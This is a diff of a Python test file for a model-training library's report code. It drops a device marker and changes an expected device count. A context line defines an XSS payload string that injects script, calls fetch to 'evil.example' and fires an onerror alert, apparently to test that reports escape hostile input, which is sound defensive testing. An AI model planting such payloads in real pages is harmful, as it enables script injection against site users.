@@ -26,8 +26,6 @@ from tpulm.report.run import Reporter
 from tpulm.runtime import interrupt
 from tpulm.train.metrics import START, Attempt, MetricsRecord
 
-pytestmark = pytest.mark.devices
-
 EVIL = "</title></section><script>document.title='taken'; fetch('http://evil.example/')</script><img src=x onerror=alert(1)>"
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 
@@ -204,7 +202,7 @@ def test_the_log_of_an_attempt_says_what_a_step_is(workdir: Path) -> None:
     start = json.loads(second.read_text())
     assert json.loads(first.read_text())["first_step"] == 0 and start["first_step"] >= 3
     assert 0 < start["per_step"]["tokens"] <= 8 * 32 and start["per_step"]["flops"] > 0
-    assert set(start["versions"]) == {"python", "tpulm", "jax", "jaxlib"} and start["device"].startswith("8 x ")
+    assert set(start["versions"]) == {"python", "tpulm", "jax", "jaxlib"} and start["device"].startswith("2 x ")
 
 
 class Visits(http.server.SimpleHTTPRequestHandler):
